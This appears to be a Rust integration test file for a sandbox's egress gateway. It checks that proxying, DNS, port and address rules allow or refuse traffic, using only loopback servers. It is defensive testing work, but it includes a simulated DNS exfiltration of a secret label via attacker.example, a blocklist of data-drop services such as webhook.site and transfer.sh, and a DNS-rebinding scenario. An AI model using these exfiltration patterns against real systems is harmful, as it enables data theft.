//! Layer 2, black-box: the egress gateway. Real programs (curl, git, python sockets, a static
//! C binary) in a real sandbox talk to servers this test starts on the host's loopback; the
//! test asserts what got through, what was refused (quickly, with an event), and that DNS never
//! leaves the machine. Every test runs twice: as root and as an unprivileged user.
//!
//! Traffic goes only to loopback servers started here (`fixtures/net/netfix.py`, bound to
//! 127.0.0.1), to the sandbox's own addresses, or to addresses the gateway must refuse without
//! sending anything (TEST-NET 192.0.2.0/24). Nothing external is ever contacted.

mod common;

use std::collections::hash_map::RandomState;
use std::hash::{BuildHasher, Hasher};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use common::net::{
    PROXY, PY, Server, UNPROXIED, make_repo, make_tls, named, policy, run, run_limited, setup,
    spawn_run, wait_limited, www,
};
use common::{Env, events, have, show, skip};
use serde_json::Value;

const TCPC: &str = include_str!("fixtures/net/tcpc.c");
const NO_PROXY: &str = "localhost,127.0.0.1,::1";

// ---- helpers ----------------------------------------------------------------------------------

/// `timeout 30 python3 nc.py ARGS` (one JSON line on stdout).
fn nc(args: &str) -> String {
    format!("timeout 30 {PY} nc.py {args}")
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

fn random_label() -> String {
    let mut s = String::new();
    while s.len() < 48 {
        let mut h = RandomState::new().build_hasher();
        h.write_u128(
            std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .unwrap()
                .as_nanos(),
        );
        h.write_u32(std::process::id());
        s.push_str(&format!("{:016x}", h.finish()));
    }
    s.truncate(48);
    s
}

/// The synthetic range the gateway answers from: 198.18.0.0/15.
fn is_fake(ip: &str) -> bool {
    ip.parse::<Ipv4Addr>()
        .is_ok_and(|a| a.octets()[0] == 198 && (a.octets()[1] & 0xfe) == 18)
}

/// The JSON lines the script printed (nc.py results), in order.
fn results(o: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&o.stdout)
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad JSON {l:?}: {e}")))
        .collect()
}

/// The `N` results of a script that must exit 0.
fn ok_results(o: &Output, n: usize) -> Vec<Value> {
    assert_eq!(o.status.code(), Some(0), "{}", show(o));
    let r = results(o);
    assert_eq!(r.len(), n, "expected {n} results\n{}", show(o));
    r
}

fn assert_refused_fast(r: &Value, what: &str, o: &Output) {
    let res = r["result"].as_str().unwrap_or("?");
    assert!(
        matches!(res, "refused" | "reset" | "unreachable"),
        "{what}: expected an immediate refusal, got {r}\n{}",
        show(o)
    );
    let ms = r["ms"].as_u64().unwrap_or(u64::MAX);
    assert!(ms < 5000, "{what}: refusal took {ms} ms\n{}", show(o));
}

fn assert_connected(r: &Value, reply: &str, what: &str, o: &Output) {
    assert_eq!(r["result"], "connected", "{what}: {r}\n{}", show(o));
    assert_eq!(r["reply"], reply, "{what}: {r}\n{}", show(o));
}

// ---- events ----

fn dstr<'a>(e: &'a Value, k: &str) -> Option<&'a str> {
    e["detail"][k].as_str()
}

/// The closing events (with their byte counts) of the allowed flows to `name`:`port`.
fn closed_flows<'a>(evs: &'a [Value], name: &str, port: u16) -> Vec<&'a Value> {
    net_event(evs, "allow", Some(name), port.into())
        .into_iter()
        .filter(|e| du64(e, "bytes_up").is_some())
        .collect()
}

/// A flow's event names the process behind it: the test client `nc.py`, with its pid.
fn names_nc(e: &Value) -> bool {
    dstr(e, "cmdline").is_some_and(|c| c.contains("nc.py")) && du64(e, "pid").is_some()
}

fn du64(e: &Value, k: &str) -> Option<u64> {
    let v = &e["detail"][k];
    v.as_u64().or_else(|| v.as_str()?.parse().ok())
}

/// A network event with this action and port whose `host` or `addr` is `who` (any, if `None`).
fn net_event<'a>(evs: &'a [Value], action: &str, who: Option<&str>, port: u64) -> Vec<&'a Value> {
    evs.iter()
        .filter(|e| e["layer"] == "network" && e["action"] == action)
        .filter(|e| du64(e, "port") == Some(port))
        .filter(|e| {
            who.is_none_or(|w| {
                dstr(e, "host") == Some(w)
                    || dstr(e, "addr").is_some_and(|a| a == w || a.starts_with(&format!("{w}:")))
            })
        })
        .collect()
}

fn net_log(evs: &[Value]) -> String {
    evs.iter()
        .filter(|e| e["layer"] == "network" || e["layer"] == "dns")
        .map(|e| e.to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

fn assert_deny_event(env: &Env, who: Option<&str>, port: u16) {
    let evs = events(env);
    let found = net_event(&evs, "deny", who, port.into());
    assert!(
        !found.is_empty(),
        "no network deny event for {who:?} port {port}; network/dns events:\n{}",
        net_log(&evs)
    );
    assert!(
        found
            .iter()
            .all(|e| e["rule"].as_str().is_some_and(|r| !r.is_empty())),
        "a deny event without a rule: {found:?}"
    );
}

/// Control after a "nothing arrived" check: the listener was alive, so the zero meant something.
fn assert_echo_alive(srv: &Server) {
    let mut s = TcpStream::connect(("127.0.0.1", srv.port)).expect("echo server alive");
    s.write_all(b"x").unwrap();
    s.shutdown(std::net::Shutdown::Write).unwrap();
    let mut b = String::new();
    s.read_to_string(&mut b).unwrap();
    assert_eq!(b, "x");
}

// ---- the sandbox's view ---------------------------------------------------------------------

both!(proxy_env_and_resolver_point_at_the_gateway, |env: Env| {
    setup(&env);
    let o = run(
        &env,
        "",
        "echo \"$http_proxy|$HTTP_PROXY|$https_proxy|$HTTPS_PROXY|$all_proxy|$ALL_PROXY\"; \
         echo \"$no_proxy|$NO_PROXY\"; grep '^nameserver' /etc/resolv.conf; \
         awk -F: 'NR > 2 { gsub(/ /, \"\", $1); print $1 }' /proc/net/dev | sort | tr '\\n' ' '",
    );
    assert_eq!(o.status.code(), Some(0), "{}", show(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 4, "{}", show(&o));
    assert_eq!(lines[0], [PROXY; 6].join("|"), "{}", show(&o));
    assert_eq!(lines[1], format!("{NO_PROXY}|{NO_PROXY}"), "{}", show(&o));
    assert_eq!(lines[2], "nameserver 127.0.0.1", "{}", show(&o));
    // The sandbox has its own network namespace: loopback plus the gateway's device, none of
    // the host's interfaces.
    let ifaces: Vec<&str> = lines[3].split_whitespace().collect();
    assert!(ifaces.contains(&"lo"), "{ifaces:?}");
    assert_eq!(
        ifaces.len(),
        2,
        "expected lo + the gateway's tun: {ifaces:?}"
    );
});

// ---- 1. plain HTTP by name, with and without the proxy ----------------------------------------

both!(http_by_name_with_and_without_proxy, |env: Env| {
    setup(&env);
    let srv = Server::http(&www(&env, "www", "hello-from-host-http"));
    let p = srv.port;
    let url = format!("http://api.example.test:{p}/hello.txt");
    let pol = named(&["api.example.test"], &[("api.example.test", &[p])], "");
    let mut script = vec![
        nc(&format!("get {url}")),
        nc(&format!("get {url} --noproxy")),
        format!("{UNPROXIED} {}", nc(&format!("get {url}"))),
    ];
    let mut requests = 3;
    let curl = have("curl");
    if curl {
        script.push(format!("echo CURL $(curl -sS --max-time 10 {url})"));
        script.push(format!(
            "echo CURL $(curl -sS --max-time 10 -x {PROXY} {url})"
        ));
        script.push(format!(
            "echo CURL $({UNPROXIED} curl -sS --max-time 10 --noproxy '*' {url})"
        ));
        requests += 3;
    } else {
        skip("curl", "the curl part");
    }
    let o = run(&env, &pol, &script.join("\n"));
    let r = ok_results(&o, 3);
    for (i, x) in r.iter().enumerate() {
        assert_eq!(x["status"], 200, "request {i}: {x}\n{}", show(&o));
        assert_eq!(
            x["body"],
            "hello-from-host-http",
            "request {i}\n{}",
            show(&o)
        );
    }
    if curl {
        let out = String::from_utf8_lossy(&o.stdout);
        let n = out
            .lines()
            .filter(|l| *l == "CURL hello-from-host-http")
            .count();
        assert_eq!(n, 3, "{}", show(&o));
    }
    assert_eq!(srv.count("REQ GET /hello.txt"), requests, "{}", srv.log());
});

// ---- 2. HTTPS: curl and git clone against a local CA -------------------------------------------

both!(https_curl_and_git_clone, |env: Env| {
    if !common::need(&["openssl", "git"], "git and curl over HTTPS") {
        return;
    }
    setup(&env);
    let name = "git.example.test";
    let tls = env.base.join("tls");
    assert!(make_tls(&tls, name), "openssl failed");
    let root = www(&env, "tlswww", "hello-over-tls");
    assert!(make_repo(&root), "git repo setup failed");
    let srv = Server::start(&[
        "http",
        root.to_str().unwrap(),
        "--tls",
        tls.join("srv.pem").to_str().unwrap(),
        tls.join("srv.key").to_str().unwrap(),
    ]);
    env.write(
        "ca.pem",
        &std::fs::read_to_string(tls.join("ca.pem")).unwrap(),
    );
    let p = srv.port;
    let pol = named(&[name], &[(name, &[p])], "");
    let base = format!("https://{name}:{p}");
    let mut script = vec![
        "export GIT_SSL_CAINFO=\"$PWD/ca.pem\" GIT_TERMINAL_PROMPT=0".to_string(),
        format!("timeout 30 git clone -q {base}/repo.git c1 && echo GIT $(cat c1/README)"),
        format!(
            "{UNPROXIED} timeout 30 git clone -q {base}/repo.git c2 && echo GIT $(cat c2/README)"
        ),
    ];
    let curl = have("curl");
    if curl {
        script.push(format!(
            "echo CURL $(curl -sS --max-time 10 --cacert ca.pem {base}/hello.txt)"
        ));
        script.push(format!(
            "echo CURL $({UNPROXIED} curl -sS --max-time 10 --cacert ca.pem {base}/hello.txt)"
        ));
    } else {
        skip("curl", "the curl part");
    }
    let o = run(&env, &pol, &script.join("\n"));
    let out = String::from_utf8_lossy(&o.stdout);
    let n = |l: &str| out.lines().filter(|x| *x == l).count();
    assert_eq!(n("GIT repo-content"), 2, "{}", show(&o));
    if curl {
        assert_eq!(n("CURL hello-over-tls"), 2, "{}", show(&o));
    }
    assert!(srv.count("REQ GET /repo.git/HEAD") >= 2, "{}", srv.log());
});

// ---- 3. DNS: answered locally, never asked upstream; blocklist ---------------------------------

both!(dns_never_leaks_and_blocklist_is_nxdomain, |env: Env| {
    setup(&env);
    let upstream = Server::start(&["dns"]);
    let web = Server::http(&www(&env, "www", "via-upstream"));
    let secret = random_label();
    let leak = format!("{secret}.attacker.example");
    let pol = format!(
        "[[network.allow]]\nhost = \"up.example.test\"\nports = [{}]\n\
         [dns]\nupstream = \"127.0.0.1:{}\"\nblock = [\"*.evil-tunnel.test\"]\n",
        web.port, upstream.port
    );
    let script = [
        format!("echo GETENT $(getent ahostsv4 {leak} | head -n1)"),
        format!("echo PYRES $({PY} -c 'import socket; print(socket.gethostbyname(\"{leak}\"))')"),
        nc(&format!("dns {leak} A")),
        nc(&format!("dns {leak} AAAA")),
        nc("dns webhook.site A"),
        nc("dns x.y.ngrok-free.app A"),
        nc("dns transfer.sh A"),
        nc("dns a.evil-tunnel.test A"),
        "getent ahostsv4 webhook.site >/dev/null 2>&1; echo BLOCKED $?".to_string(),
        // Control: a connection to an allowed name does use the configured upstream.
        nc(&format!(
            "get http://up.example.test:{}/hello.txt --noproxy",
            web.port
        )),
    ]
    .join("\n");
    let o = run(&env, &pol, &script);
    let r = ok_results(&o, 7);
    let out = String::from_utf8_lossy(&o.stdout);
    let field = |tag: &str| {
        out.lines()
            .find_map(|l| l.strip_prefix(&format!("{tag} ")))
            .unwrap_or("")
            .split_whitespace()
            .next()
            .unwrap_or("")
            .to_string()
    };
    let via_getent = field("GETENT");
    assert!(is_fake(&via_getent), "getent: {via_getent:?}\n{}", show(&o));
    assert_eq!(
        field("PYRES"),
        via_getent,
        "same name, same address\n{}",
        show(&o)
    );
    assert_eq!(r[0]["rcode"], 0, "{}", show(&o));
    assert_eq!(r[0]["answers"][0], via_getent.as_str(), "{}", show(&o));
    assert_eq!(r[1]["rcode"], 0, "AAAA is an empty answer\n{}", show(&o));
    assert_eq!(r[1]["answers"], serde_json::json!([]), "{}", show(&o));
    for (i, n) in [
        (2, "webhook.site"),
        (3, "x.y.ngrok-free.app"),
        (4, "transfer.sh"),
        (5, "a.evil-tunnel.test"),
    ] {
        assert_eq!(
            r[i]["rcode"],
            3,
            "{n} must be NXDOMAIN: {}\n{}",
            r[i],
            show(&o)
        );
    }
    assert_ne!(field("BLOCKED"), "0", "{}", show(&o));
    assert_eq!(r[6]["body"], "via-upstream", "{}", show(&o));

    let seen = upstream.log();
    assert!(
        !seen.contains(&secret),
        "the random name reached the upstream resolver:\n{seen}"
    );
    for n in [
        "webhook.site",
        "ngrok-free.app",
        "transfer.sh",
        "evil-tunnel",
    ] {
        assert!(!seen.contains(n), "{n} reached upstream:\n{seen}");
    }
    assert!(
        seen.contains("QUERY up.example.test"),
        "the host-side lookup did not use [dns] upstream:\n{seen}"
    );
    // The answers were logged too.
    let evs = events(&env);
    assert!(
        evs.iter().any(|e| e["layer"] == "dns"
            && dstr(e, "name").is_some_and(|n| n.trim_end_matches('.') == leak)),
        "no dns event for {leak}:\n{}",
        net_log(&evs)
    );
});

// ---- 4. refusals: fast, each with an event ---------------------------------------------------

both!(raw_ip_connects_are_refused_fast, |env: Env| {
    setup(&env);
    let script = [
        nc("connect 192.0.2.1 80"),
        nc("connect 192.0.2.1 9999"),
        // In the fake range but never handed out by the resolver.
        nc("connect 198.19.200.200 8080"),
    ]
    .join("\n");
    let o = run(&env, "", &script);
    let r = ok_results(&o, 3);
    assert_refused_fast(&r[0], "192.0.2.1:80", &o);
    assert_refused_fast(&r[1], "192.0.2.1:9999", &o);
    assert_refused_fast(&r[2], "198.19.200.200:8080", &o);
    assert_deny_event(&env, Some("192.0.2.1"), 80);
    assert_deny_event(&env, Some("192.0.2.1"), 9999);
    assert_deny_event(&env, None, 8080);
});

both!(host_loopback_is_not_reachable_by_address, |env: Env| {
    setup(&env);
    let echo = Server::echo();
    let upstream = Server::start(&["dns"]); // answers 127.0.0.1 to everything: a rebinding attack
    let p = echo.port;
    let pol = format!(
        "[[network.allow]]\nhost = \"*.rebind.test\"\nports = [{p}]\n\
         [dns]\nupstream = \"127.0.0.1:{}\"\n",
        upstream.port
    );
    let script = [
        // 127.0.0.1 inside is the sandbox's own loopback, where nothing listens.
        nc(&format!("connect 127.0.0.1 {p} hi")),
        // A wildcard rule never vouches for a private answer.
        nc(&format!("connect a.rebind.test {p} hi")),
    ]
    .join("\n");
    let o = run(&env, &pol, &script);
    let r = ok_results(&o, 2);
    assert_ne!(r[0]["result"], "connected", "{}", show(&o));
    assert_refused_fast(&r[1], "a.rebind.test -> 127.0.0.1", &o);
    assert_deny_event(&env, Some("a.rebind.test"), p);
    assert_eq!(echo.count("CONN"), 0, "reached the host's loopback");
    assert_echo_alive(&echo);
});

both!(smtp_and_irc_ports_are_refused, |env: Env| {
    setup(&env);
    let echo = Server::echo();
    let name = "mail.example.test";
    let pol = named(&[name], &[(name, &[echo.port])], "");
    let script = [
        nc(&format!("connect {name} {} ping", echo.port)),
        nc(&format!("connect {name} 25")),
        nc(&format!("connect {name} 6667")),
    ]
    .join("\n");
    let o = run(&env, &pol, &script);
    let r = ok_results(&o, 3);
    assert_connected(&r[0], "ping", "the allowed port (control)", &o);
    assert_refused_fast(&r[1], "port 25", &o);
    assert_refused_fast(&r[2], "port 6667", &o);
    assert_deny_event(&env, Some(name), 25);
    assert_deny_event(&env, Some(name), 6667);
    let evs = events(&env);
    assert!(
        net_event(&evs, "allow", Some(name), 25).is_empty()
            && net_event(&evs, "allow", Some(name), 6667).is_empty(),
        "{}",
        net_log(&evs)
    );
});

both!(ssh_to_an_unlisted_host_is_refused, |env: Env| {
    setup(&env);
    let upstream = Server::start(&["dns"]);
    let pol = format!("[dns]\nupstream = \"127.0.0.1:{}\"\n", upstream.port);
    let o = run(&env, &pol, &nc("connect ssh.unlisted.test 22"));
    let r = ok_results(&o, 1);
    assert_refused_fast(&r[0], "ssh.unlisted.test:22", &o);
    assert_deny_event(&env, Some("ssh.unlisted.test"), 22);
    // Denied before any host-side lookup.
    assert_eq!(upstream.count("QUERY"), 0, "{}", upstream.log());
});

both!(udp_to_a_listener_is_dropped, |env: Env| {
    setup(&env);
    let udp = Server::start(&["udp"]);
    let name = "udp.example.test";
    // Even a rule naming the port: it allows TCP, UDP other than DNS never passes.
    let pol = named(&[name], &[(name, &[udp.port])], "");
    let t0 = Instant::now();
    let o = run(
        &env,
        &pol,
        &format!("{}\nsleep 0.5", nc(&format!("udp {name} {} 5", udp.port))),
    );
    let r = ok_results(&o, 1);
    assert!(t0.elapsed() < Duration::from_secs(30), "{}", show(&o));
    assert!(is_fake(r[0]["addr"].as_str().unwrap_or("")), "{}", show(&o));
    assert_eq!(
        udp.count("DGRAM"),
        0,
        "datagrams got through:\n{}",
        udp.log()
    );
    assert_deny_event(&env, None, udp.port);
    // Control: the listener was there.
    UdpSocket::bind("127.0.0.1:0")
        .unwrap()
        .send_to(b"control", ("127.0.0.1", udp.port))
        .unwrap();
    assert_eq!(udp.count("DGRAM"), 1, "{}", udp.log());
});

// ---- 5. host.cordon.internal ----------------------------------------------------------------

both!(host_alias_needs_a_rule, |env: Env| {
    setup(&env);
    let srv = Server::http(&www(&env, "www", "hello-host-alias"));
    let p = srv.port;
    let alias = "host.cordon.internal";
    let url = format!("http://{alias}:{p}/hello.txt");

    let o = run(&env, "", &nc(&format!("connect {alias} {p}")));
    let r = ok_results(&o, 1);
    assert_refused_fast(&r[0], "host alias without a rule", &o);
    assert_deny_event(&env, Some(alias), p);
    assert_eq!(srv.count("REQ"), 0, "{}", srv.log());

    let pol = format!("[[network.allow]]\nhost = \"{alias}\"\nports = [{p}]\n");
    let o = run(
        &env,
        &pol,
        &[
            nc(&format!("get {url} --noproxy")),
            nc(&format!("get {url}")),
        ]
        .join("\n"),
    );
    let r = ok_results(&o, 2);
    assert_eq!(r[0]["body"], "hello-host-alias", "{}", show(&o));
    assert_eq!(
        r[1]["body"],
        "hello-host-alias",
        "via the proxy\n{}",
        show(&o)
    );
    assert_eq!(srv.count("REQ GET /hello.txt"), 2, "{}", srv.log());
    // The rule is for that port only.
    let o = run(&env, &pol, &nc(&format!("connect {alias} {}", free_port())));
    assert_refused_fast(&ok_results(&o, 1)[0], "host alias, another port", &o);
});

// A single-label name (the sandbox's own hostname `cordon`, a LAN short name) is no public
// name: NXDOMAIN, never a synthetic address; one policy names still resolves.
both!(single_label_names_are_nxdomain, |env: Env| {
    setup(&env);
    let pol = "[dns]\nhosts = { \"db\" = \"127.0.0.1\" }\n";
    let script = [
        nc("dns cordon A"),
        nc("dns intranet AAAA"),
        nc("dns db A"),
        nc("dns host.cordon.internal A"),
        "getent ahostsv4 intranet >/dev/null 2>&1; echo SHORT $?".to_string(),
        "echo SELF $(getent ahostsv4 cordon | head -n1)".to_string(),
    ]
    .join("\n");
    let o = run(&env, pol, &script);
    let r = ok_results(&o, 4);
    for (i, n) in [(0, "cordon"), (1, "intranet")] {
        assert_eq!(
            r[i]["rcode"],
            3,
            "{n} must be NXDOMAIN: {}\n{}",
            r[i],
            show(&o)
        );
        assert_eq!(r[i]["answers"], serde_json::json!([]), "{}", show(&o));
    }
    for (i, n) in [(2, "db"), (3, "host.cordon.internal")] {
        assert_eq!(r[i]["rcode"], 0, "{n} resolves: {}\n{}", r[i], show(&o));
        let a = r[i]["answers"][0].as_str().unwrap_or_default();
        assert!(is_fake(a), "{n}: {a:?}\n{}", show(&o));
    }
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.lines()
            .any(|l| l.starts_with("SHORT ") && l != "SHORT 0"),
        "getent found `intranet`\n{}",
        show(&o)
    );
    // The sandbox's own hostname is in its /etc/hosts, on loopback, as in a container.
    assert!(
        out.lines().any(|l| l.starts_with("SELF 127.0.1.1 ")),
        "the sandbox's hostname resolves to its loopback\n{}",
        show(&o)
    );
    let log = std::fs::read_to_string(&env.audit).unwrap();
    assert!(
        log.lines()
            .any(|l| l.contains("\"single-label\"") && l.contains("\"cordon\"")),
        "the NXDOMAIN names its rule in the log:\n{log}"
    );
});

// ---- 6. programs that ignore the proxy env ---------------------------------------------------

both!(programs_ignoring_proxy_env_are_covered, |env: Env| {
    setup(&env);
    let echo = Server::echo();
    let p = echo.port;
    let pol = named(
        &["echo.example.test", "other.example.test"],
        &[("echo.example.test", &[p])],
        "",
    );
    let mut script = vec![
        format!("env -i {PY} nc.py connect echo.example.test {p} raw-python"),
        format!("env -i {PY} nc.py connect other.example.test {p} raw-python"),
    ];
    // A static binary (like a Go one): its own libc, no proxy env, only getaddrinfo + connect.
    let tcpc = env.base.join("tcpc.c");
    std::fs::write(&tcpc, TCPC).unwrap();
    let bin = env.project.join("tcpc");
    let static_ok = have("gcc")
        && Command::new("gcc")
            .args(["-static", "-O1", "-o"])
            .arg(&bin)
            .arg(&tcpc)
            .output()
            .is_ok_and(|o| o.status.success());
    if static_ok {
        env.own(&bin);
        script.push(format!(
            "env -i ./tcpc echo.example.test {p} static-hello; echo STATIC $?"
        ));
        script.push(format!(
            "env -i ./tcpc other.example.test {p} x; echo STATIC $?"
        ));
    } else {
        skip("gcc -static", "the static binary part");
    }
    let o = run(&env, &pol, &script.join("\n"));
    let r = ok_results(&o, 2);
    assert_connected(&r[0], "raw-python", "python, no proxy env", &o);
    assert!(is_fake(r[0]["addr"].as_str().unwrap_or("")), "{}", show(&o));
    assert_refused_fast(&r[1], "python to a name without a rule", &o);
    assert_deny_event(&env, Some("other.example.test"), p);
    if static_ok {
        let out = String::from_utf8_lossy(&o.stdout);
        assert!(out.contains("static-hello\nSTATIC 0"), "{}", show(&o));
        assert!(out.contains("connect: "), "{}", show(&o));
        assert!(out.contains("STATIC 4"), "{}", show(&o));
        assert_eq!(echo.count("CONN"), 2, "{}", echo.log());
    } else {
        assert_eq!(echo.count("CONN"), 1, "{}", echo.log());
    }
});

// ---- 7. [[publish]] --------------------------------------------------------------------------

/// GET / from 127.0.0.1:port on the host; the body if it answered.
fn host_get(port: u16) -> Option<String> {
    let addr = SocketAddr::from(([127, 0, 0, 1], port));
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(3))).ok()?;
    s.write_all(b"GET /index.html HTTP/1.0\r\nHost: localhost\r\n\r\n")
        .ok()?;
    let mut b = String::new();
    let _ = s.read_to_string(&mut b);
    Some(b)
}

/// A server started inside on `bind`, published: the host's 127.0.0.1 gets its page.
fn publish_serves(env: &Env, bind: &str) {
    setup(env);
    let host_port = free_port();
    let inside = 18080;
    let token = format!("published-{}", random_label());
    env.write("www/index.html", &token);
    let pol = policy(
        env,
        &format!("[[publish]]\nport = {inside}\nhost_port = {host_port}\n"),
    );
    let script = format!(
        "(cd www && exec {PY} -m http.server --bind {bind} {inside} >/dev/null 2>&1) & \
         i=0; while [ ! -e published.done ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done; \
         kill $! 2>/dev/null; echo waited $i"
    );
    let child = spawn_run(env, &pol, &script);
    let end = Instant::now() + Duration::from_secs(20);
    let mut last = None;
    while Instant::now() < end {
        last = host_get(host_port);
        if last.as_deref().is_some_and(|b| b.contains(&token)) {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    std::fs::write(env.project.join("published.done"), "").unwrap();
    let o = wait_limited(child, Duration::from_secs(60));
    assert!(
        last.as_deref().is_some_and(|b| b.contains(&token)),
        "127.0.0.1:{host_port} never served the page (last answer {last:?})\n{}",
        show(&o)
    );
    assert_eq!(o.status.code(), Some(0), "{}", show(&o));
    // Gone with the session.
    assert!(
        TcpStream::connect(("127.0.0.1", host_port)).is_err(),
        "the published port outlived the session"
    );
}

both!(publish_exposes_a_server_started_inside, |env: Env| {
    publish_serves(&env, "127.0.0.1");
});

// A dev server that binds `localhost` may get ::1 only (Vite, Node 17+): it is reached too.
both!(publish_reaches_a_server_on_ipv6_loopback, |env: Env| {
    publish_serves(&env, "::1");
});

// The cause is said once: not `… (os error 98) (…): Address already in use (os error 98)`.
both!(
    a_taken_publish_port_is_refused_in_one_sentence,
    |env: Env| {
        let taken = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = taken.local_addr().unwrap().port();
        let pol = policy(
            &env,
            &format!("[[publish]]\nport = 3000\nhost_port = {port}\n"),
        );
        let o = wait_limited(spawn_run(&env, &pol, "true"), Duration::from_secs(60));
        assert_eq!(o.status.code(), Some(125), "{}", show(&o));
        assert_eq!(
            String::from_utf8_lossy(&o.stderr),
            format!(
                "cordon: cannot start the egress gateway: cannot publish on 127.0.0.1:{port}: \
             Address already in use (os error 98) (is something else listening there? pick \
             another host_port)\n"
            )
        );
    }
);

// 8-10: load, modes, events.
#[path = "network/load_modes_events.rs"]
mod load_modes_events;
